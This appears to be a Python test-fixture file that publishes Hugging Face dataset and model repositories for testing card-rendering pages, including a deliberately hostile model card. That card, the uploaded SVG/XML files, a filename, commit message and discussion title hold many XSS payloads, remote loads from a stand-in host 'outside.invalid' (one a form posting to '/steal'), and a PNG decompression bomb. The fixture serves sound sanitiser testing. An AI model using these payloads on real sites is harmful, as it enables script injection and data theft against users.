"""Repositories for the tests of the pages: an honest dataset and model, and a card that tries everything."""

from __future__ import annotations

import io
import json
import struct
import zlib

import pyarrow as pa
import pyarrow.parquet as pq
from huggingface_hub import CommitOperationAdd, HfApi
from PIL import Image

ROWS = 60
NULL_SCORE, NAN_SCORE, NULL_PICTURE, BROKEN, SVG, BOMB = 3, 4, 7, 8, 9, 10


def picture(colour: tuple[int, int, int], size: tuple[int, int] = (48, 32)) -> bytes:
    encoded = io.BytesIO()
    Image.new("RGB", size, colour).save(encoded, "PNG")
    return encoded.getvalue()


def bomb() -> bytes:
    """A PNG of a few bytes that says it has two thousand million pixels."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    header = struct.pack(">IIBBBBB", 50_000, 50_000, 8, 2, 0, 0, 0)
    pixels = chunk(b"IDAT", zlib.compress(b"\0" * 100))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + pixels + chunk(b"IEND", b"")


def score(number: int) -> float | None:
    return None if number == NULL_SCORE else float("nan") if number == NAN_SCORE else float((number * 37) % ROWS // 2)


def table() -> pa.Table:
    odd = {BROKEN: b"not a picture", SVG: b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", BOMB: bomb()}
    pictures = [
        None if n == NULL_PICTURE else {"bytes": odd.get(n) or picture((n * 4, 80, 160)), "path": f"{n}.png"}
        for n in range(ROWS)
    ]
    columns = {
        "row_id": pa.array([f"r{n:02d}" for n in range(ROWS)]),
        "image": pa.array(pictures, pa.struct({"bytes": pa.binary(), "path": pa.string()})),
        "caption": pa.array([f"<img src=x onerror=window.hacked=1> {n}" for n in range(ROWS)]),
        "quiz_accuracy": pa.array([score(n) for n in range(ROWS)], pa.float32()),
        "kind": pa.array([n % 2 for n in range(ROWS)], pa.int64()),
        "embedding": pa.array([[0.5] * 512] * ROWS),
    }
    features = {"image": {"_type": "Image"}, "kind": {"_type": "ClassLabel", "names": ["round", "square"]}}
    noted = {"huggingface": json.dumps({"info": {"features": features}})}
    return pa.table(columns).replace_schema_metadata(noted)


def parquet(rows: pa.Table, group: int = 8) -> bytes:
    encoded = io.BytesIO()
    pq.write_table(rows, encoded, row_group_size=group)
    return encoded.getvalue()


DATASET_CARD = """---
pretty_name: Scenes
configs:
- config_name: top-5
  data_files: [{split: train, path: "top-5/train-*"}]
- config_name: scores
  default: true
  data_files:
  - split: train
    path: scores/train-*
---
# Scenes

The *whole* scored [pool](report.html).
"""

MODEL_CARD = """---
library_name: peft
model-index:
- name: lora
  results:
  - task: {type: text-to-image}
    dataset: {name: me/scenes, type: me/scenes, config: top-10pct, split: train}
    metrics:
    - {type: quiz_accuracy, value: 0.81234, args: {n: 120, low: 0.77}}
    - {type: retention, value: 0.99}
---
# A LoRA

![grid](pictures/grid.png)
![same](./pictures/grid.png)
"""

HOSTILE_CARD = """---
license: "</dd><script>window.hacked = 1</script>"
"<script>window.hacked=1</script>": "<img src=x onerror=window.hacked=1>"
tags: ["<script>window.hacked=1</script>"]
model-index:
- name: x
  results:
  - task: {type: "<script>window.hacked=1</script>"}
    dataset: {name: [], type: {}}
    metrics: [{type: "<img src=x onerror=window.hacked=1>", value: {deep: [1]}}, 3]
  - nonsense
---
# Hostile <script>window.hacked = 1; alert(1)</script>

<script src="https://outside.invalid/x.js"></script>
<img src=x onerror="window.hacked = 1; alert(1)">
<img src="https://outside.invalid/pixel.png"> ![pixel](https://outside.invalid/pixel2.png) ![p](//outside.invalid/p.png)
![up](../../../other/secret/raw/main/x.png)
<img srcset="https://outside.invalid/set.png 2x">
<svg onload="window.hacked = 1"><script>window.hacked = 1</script></svg>
<iframe src="javascript:parent.hacked = 1"></iframe> <iframe srcdoc="<script>parent.hacked = 1</script>"></iframe>
<object data="javascript:window.hacked = 1"></object> <embed src="https://outside.invalid/e">
<a id="click" href="javascript:window.hacked = 1">click me</a> [and me](javascript:window.hacked=1)
<a href=" &#1;javascript:window.hacked = 1">x</a> <a href="JaVaScRiPt:window.hacked=1">x</a> [d](data:text/html,x)
<form action="https://outside.invalid/steal"><input autofocus onfocus="window.hacked = 1"><button>go</button></form>
<style>@import "https://outside.invalid/s.css"; body { background: url(https://outside.invalid/b.png) }</style>
<div style="background: url(https://outside.invalid/c.png); position: fixed" id="top" onclick="window.hacked=1">d</div>
<base href="https://outside.invalid/"> <meta http-equiv="refresh" content="0; url=https://outside.invalid/">
<link rel="stylesheet" href="https://outside.invalid/l.css"> <video src="https://outside.invalid/v" autoplay></video>
<details open ontoggle="window.hacked = 1">details</details> <body onload="window.hacked = 1">
`harmless` <!-- <script>window.hacked = 1</script> -->

<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hacked=1&gt;">
"""
HOSTILE_PAGE = b"<h1>Report</h1><style>h1 { color: teal }</style><script>document.title = 'ran'</script>"


def publish(api: HfApi) -> None:
    """Writes me/scenes (dataset), me/lora and me/hostile (models)."""
    rows = table()
    api.create_repo("me/scenes", repo_type="dataset")
    api.create_commit(
        "me/scenes",
        [
            CommitOperationAdd("README.md", DATASET_CARD.encode()),
            CommitOperationAdd("scores/train-00000-of-00002.parquet", parquet(rows.slice(0, 35))),
            CommitOperationAdd("scores/train-00001-of-00002.parquet", parquet(rows.slice(35))),
            CommitOperationAdd("top-5/train-00000-of-00001.parquet", parquet(rows.slice(0, 5))),
        ],
        commit_message="Publish",
        repo_type="dataset",
    )
    pictures = [CommitOperationAdd(f"pictures/{name}.png", picture((9, 99, 9))) for name in ("grid", "an other #1")]
    api.create_repo("me/lora", private=True)
    api.create_commit(
        "me/lora", [CommitOperationAdd("README.md", MODEL_CARD.encode()), *pictures], commit_message="Publish"
    )
    api.create_repo("me/hostile")
    additions = {
        "README.md": HOSTILE_CARD.encode(),
        "report.html": HOSTILE_PAGE,
        "evil.svg": b"<svg xmlns='http://www.w3.org/2000/svg'><script>document.title = 'ran'</script></svg>",
        "evil.xml": b"<html xmlns='http://www.w3.org/1999/xhtml'><script>document.title = 'ran'</script></html>",
        "fake.png": HOSTILE_PAGE,
        "<img src=x onerror=window.hacked=1>.txt": b"x",
    }
    api.create_commit(
        "me/hostile",
        [CommitOperationAdd(path, content) for path, content in additions.items()],
        commit_message="<script>window.hacked = 1</script>",
    )
    title = "<img src=x onerror=window.hacked=1>"
    api.create_discussion("me/hostile", title=title, description="<script>window.hacked=1</script>")
